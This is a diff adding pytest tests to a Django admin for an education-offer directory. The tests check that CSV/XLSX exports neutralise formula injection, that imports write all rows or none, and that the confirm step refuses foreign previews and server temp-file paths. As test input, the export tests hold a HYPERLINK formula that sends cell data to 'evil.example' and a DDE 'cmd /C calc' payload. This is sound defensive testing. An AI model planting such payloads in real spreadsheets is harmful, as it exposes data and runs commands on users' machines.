@@ -2,16 +2,22 @@
 
 import csv
 import io
+import os
+import tempfile
 
+import openpyxl
 import pytest
 import tablib
+from django.contrib.admin.models import LogEntry
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
 from actors.models import Actor
 from actors.resources import ActorResource
+from bildungsregion.resources import ImportPreviewStorage, PreviewConfirmForm
 from offers.models import EditorialStatus, Offer
 from offers.resources import OfferResource
+from tests.factories import make_actor, make_offer
 
 pytestmark = pytest.mark.django_db
 
@@ -128,3 +134,260 @@ def test_export_as_xlsx(client, users, world_b):
     )
     data = tablib.Dataset().load(response.content, format="xlsx")
     assert list(data) == [(world_b.objects["offers.offer"].slug, "Sprachkurs Lüneburg")]
+
+
+# --- item 5: formulae in exports --------------------------------------------------------------
+FORMULA_CHARS = ["=", "+", "-", "@", "\t", "\r"]
+EXPORT_FORMATS = {"csv": "0", "xlsx": "1"}
+
+
+def exported_rows(response, file_format):
+    """The data rows of an admin export; XLSX cells as openpyxl cells."""
+    if file_format == "csv":
+        text = response.content.decode("utf-8-sig")
+        return list(csv.reader(io.StringIO(text, newline="")))[1:]
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    return [list(row) for row in sheet.iter_rows(min_row=2)]
+
+
+def assert_neutralised(cell, value, file_format):
+    if file_format == "csv":
+        assert cell == "'" + value
+    else:  # a string cell, not a formula; reading XML turns a CR into LF
+        assert (cell.value, cell.data_type) == ("'" + value.replace("\r", "\n"), "s")
+
+
+@pytest.mark.parametrize("file_format", EXPORT_FORMATS)
+@pytest.mark.parametrize("char", FORMULA_CHARS, ids=repr)
+def test_export_neutralises_formulae_in_offers(client, users, world_b, char, file_format):
+    title = char + 'HYPERLINK("https://evil.example/?x="&A1,"Klick")'
+    summary = char + "cmd|' /C calc'!A0"
+    offer = make_offer(provider=world_b.objects["actors.actor"], title=title, summary=summary)
+    offer.slug = "formel"
+    offer.save(update_fields=["slug"])
+    client.force_login(users["coordinator_b"])
+    response = client.post(
+        reverse("admin:offers_offer_export"),
+        {
+            "format": EXPORT_FORMATS[file_format],
+            "offerresource_slug": "on",
+            "offerresource_title": "on",
+            "offerresource_summary": "on",
+        },
+    )
+    assert response.status_code == 200
+    rows = {
+        (row[0] if file_format == "csv" else row[0].value): row[1:]
+        for row in exported_rows(response, file_format)
+    }
+    assert sorted(rows) == sorted(
+        Offer.objects.filter(region=world_b.region).values_list("slug", flat=True)
+    )
+    assert_neutralised(rows["formel"][0], title, file_format)
+    assert_neutralised(rows["formel"][1], summary, file_format)
+
+
+@pytest.mark.parametrize("file_format", EXPORT_FORMATS)
+def test_export_neutralises_formulae_in_actors_but_not_numbers(client, users, world_b, file_format):
+    names = {f"formel-{n}": char + "SUM(1+1)" for n, char in enumerate(FORMULA_CHARS)}
+    for slug, name in names.items():
+        make_actor(world_b.region, slug=slug, name=name, longitude=-1.5)
+    client.force_login(users["coordinator_b"])
+    response = client.post(
+        reverse("admin:actors_actor_export"),
+        {
+            "format": EXPORT_FORMATS[file_format],
+            "actorresource_slug": "on",
+            "actorresource_name": "on",
+            "actorresource_longitude": "on",
+        },
+    )
+    assert response.status_code == 200
+    rows = {
+        (row[0] if file_format == "csv" else row[0].value): row[1:]
+        for row in exported_rows(response, file_format)
+        if (row[0] if file_format == "csv" else row[0].value) in names
+    }
+    assert sorted(rows) == sorted(names)
+    for slug, name in names.items():
+        assert_neutralised(rows[slug][0], name, file_format)
+        longitude = rows[slug][1]
+        assert (longitude if file_format == "csv" else longitude.value) == (
+            "-1,5" if file_format == "csv" else -1.5
+        )
+
+
+# --- item 6: the confirm writes all rows or none ----------------------------------------------
+OFFER_HEADERS = ["slug", "title", "provider", "summary", "learning_setting", "life_stages"]
+NOTHING_IMPORTED = (
+    "Es wurde nichts importiert: Einige Zeilen sind jetzt fehlerhaft (siehe unten). Bitte "
+    "korrigieren Sie die Datei und laden Sie sie erneut hoch."
+)
+PREVIEW_REFUSED = (
+    "Diese Vorschau ist abgelaufen oder gehört nicht zu Ihrem Import. Bitte laden Sie die Datei "
+    "erneut hoch."
+)
+
+
+def offer_rows(*rows):
+    """Import rows (slug, title, provider slug) of an offer file."""
+    return [
+        [slug, title, provider, "Kurz", "non-formal", "fruehe-kindheit"]
+        for slug, title, provider in rows
+    ]
+
+
+def confirm_data(response):
+    confirm = response.context["confirm_form"]
+    return {name: confirm[name].value() for name in confirm.fields}
+
+
+def shown_messages(response):
+    return [str(message) for message in response.context["messages"]]
+
+
+def test_import_confirm_writes_no_row_when_a_slug_was_taken_after_the_preview(
+    client, users, world_a, world_b
+):
+    own = world_b.objects["actors.actor"].slug
+    upload = csv_file(
+        OFFER_HEADERS,
+        offer_rows(
+            ("lesestart", "Lesestart", own),
+            ("leseclub", "Leseclub", own),
+            ("vorlesen", "Vorlesen", own),
+        ),
+    )
+    client.force_login(users["coordinator_b"])
+    preview = client.post(
+        reverse("admin:offers_offer_import"), {"import_file": upload, "format": "0"}
+    )
+    assert [row.import_type for row in preview.context["result"].rows] == ["new", "new", "new"]
+    # Between preview and confirm another region takes row 2's slug.
+    taken = make_offer(provider=world_a.objects["actors.actor"], slug="leseclub")
+
+    response = client.post(reverse("admin:offers_offer_process_import"), confirm_data(preview))
+
+    assert response.status_code == 200
+    slugs = ["lesestart", "leseclub", "vorlesen"]
+    assert list(Offer.objects.filter(slug__in=slugs)) == [taken]
+    assert not LogEntry.objects.filter(user=users["coordinator_b"]).exists()
+    result = response.context["result"]
+    assert {row.number: row.error_dict for row in result.invalid_rows} == {
+        2: {"slug": ["Der Kurzname „leseclub“ ist schon vergeben."]}
+    }
+    assert "Der Kurzname „leseclub“ ist schon vergeben." in response.content.decode()
+    assert shown_messages(response) == [NOTHING_IMPORTED]
+
+
+def test_import_confirm_of_a_preview_with_invalid_rows_writes_nothing(
+    client, users, world_a, world_b
+):
+    own = world_b.objects["actors.actor"].slug
+    foreign = world_a.objects["actors.actor"].slug
+    rows = offer_rows(
+        ("lesestart", "Lesestart", own), ("fremd", "Fremd", foreign), ("vorlesen", "Vorlesen", own)
+    )
+    client.force_login(users["coordinator_b"])
+    preview = client.post(
+        reverse("admin:offers_offer_import"),
+        {"import_file": csv_file(OFFER_HEADERS, rows), "format": "0"},
+    )
+    # The preview shows the error and offers no confirm ...
+    assert {row.number for row in preview.context["result"].invalid_rows} == {2}
+    assert "confirm_form" not in preview.context
+    # ... but a confirm for such a stored preview (as the original admin let one post) must
+    # not write its valid rows either.
+    out = io.StringIO()
+    csv.writer(out).writerows([OFFER_HEADERS, *rows])
+    storage = ImportPreviewStorage()
+    storage.save(out.getvalue().encode())
+    token = PreviewConfirmForm.sign(
+        users["coordinator_b"],
+        {"import_file_name": storage.name, "original_file_name": "angebote.csv", "format": "0"},
+    )
+    response = client.post(
+        reverse("admin:offers_offer_process_import"),
+        {"import_file_name": token, "original_file_name": "angebote.csv", "format": "0"},
+    )
+
+    assert response.status_code == 200
+    assert not Offer.objects.filter(slug__in=["lesestart", "fremd", "vorlesen"]).exists()
+    result = response.context["result"]
+    assert {row.number: row.error_dict for row in result.invalid_rows} == {
+        2: {"provider": [f"„{foreign}“ gibt es in dieser Region nicht."]}
+    }
+    assert shown_messages(response) == [NOTHING_IMPORTED]
+    assert storage.read() is None  # used up
+
+
+# --- item 8: the confirm reads only the user's own preview ------------------------------------
+def test_import_preview_shows_no_filesystem_path(client, users, world_b):
+    client.force_login(users["coordinator_b"])
+    upload = csv_file(ACTOR_HEADERS, [["kita-x", "Kita X", "kita", "", "", "", ""]])
+    response = client.post(
+        reverse("admin:actors_actor_import"), {"import_file": upload, "format": "0"}
+    )
+    token = response.context["confirm_form"]["import_file_name"].value()
+    assert tempfile.gettempdir() not in response.content.decode()
+    assert "/" not in token
+
+
+def test_import_confirm_refuses_a_file_of_the_server_temp_folder(client, users, world_b):
+    content = b"slug,name,kind\r\nkita-x,Kita X,kita\r\n"
+    handle, path = tempfile.mkstemp(suffix=".csv", dir=tempfile.gettempdir())
+    with os.fdopen(handle, "wb") as file:
+        file.write(content)
+    client.force_login(users["coordinator_b"])
+    try:
+        for name in (os.path.basename(path), path):
+            response = client.post(
+                reverse("admin:actors_actor_process_import"),
+                {"import_file_name": name, "original_file_name": "x.csv", "format": "0"},
+            )
+            assert response.status_code == 200
+            assert shown_messages(response) == [PREVIEW_REFUSED]
+            assert response.context["result"] is None
+        with open(path, "rb") as file:
+            assert file.read() == content
+    finally:
+        os.remove(path)
+    assert not Actor.objects.filter(slug="kita-x").exists()
+
+
+def test_import_confirm_refuses_another_users_preview(client, users, world_a, world_b):
+    upload = csv_file(ACTOR_HEADERS, [["kita-x", "Kita X", "kita", "", "", "", ""]])
+    client.force_login(users["coordinator_a"])
+    preview = client.post(
+        reverse("admin:actors_actor_import"), {"import_file": upload, "format": "0"}
+    )
+    data = confirm_data(preview)
+
+    client.force_login(users["coordinator_b"])
+    response = client.post(reverse("admin:actors_actor_process_import"), data)
+    assert shown_messages(response) == [PREVIEW_REFUSED]
+    assert not Actor.objects.filter(slug="kita-x").exists()
+
+    client.force_login(users["coordinator_a"])
+    response = client.post(reverse("admin:actors_actor_process_import"), data, follow=True)
+    assert response.redirect_chain == [(reverse("admin:actors_actor_changelist"), 302)]
+    assert shown_messages(response) == [
+        "Import fertiggestellt: 1 neue, 0 aktualisierte, 0 gelöschte und 0 übersprungene Akteure."
+    ]
+    assert Actor.objects.get(slug="kita-x").region == world_a.region
+    # A preview is confirmed once.
+    response = client.post(reverse("admin:actors_actor_process_import"), data)
+    assert shown_messages(response) == [PREVIEW_REFUSED]
+
+
+def test_import_xlsx_preview_and_confirm_through_the_cache(client, users, world_b):
+    dataset = tablib.Dataset(headers=ACTOR_HEADERS)
+    dataset.append(["kita-x", "Kita X", "kita", "", "", "", ""])
+    upload = SimpleUploadedFile("akteure.xlsx", dataset.export("xlsx"))
+    client.force_login(users["coordinator_b"])
+    preview = client.post(
+        reverse("admin:actors_actor_import"), {"import_file": upload, "format": "1"}
+    )
+    response = client.post(reverse("admin:actors_actor_process_import"), confirm_data(preview))
+    assert response.status_code == 302
+    assert Actor.objects.get(slug="kita-x").region == world_b.region
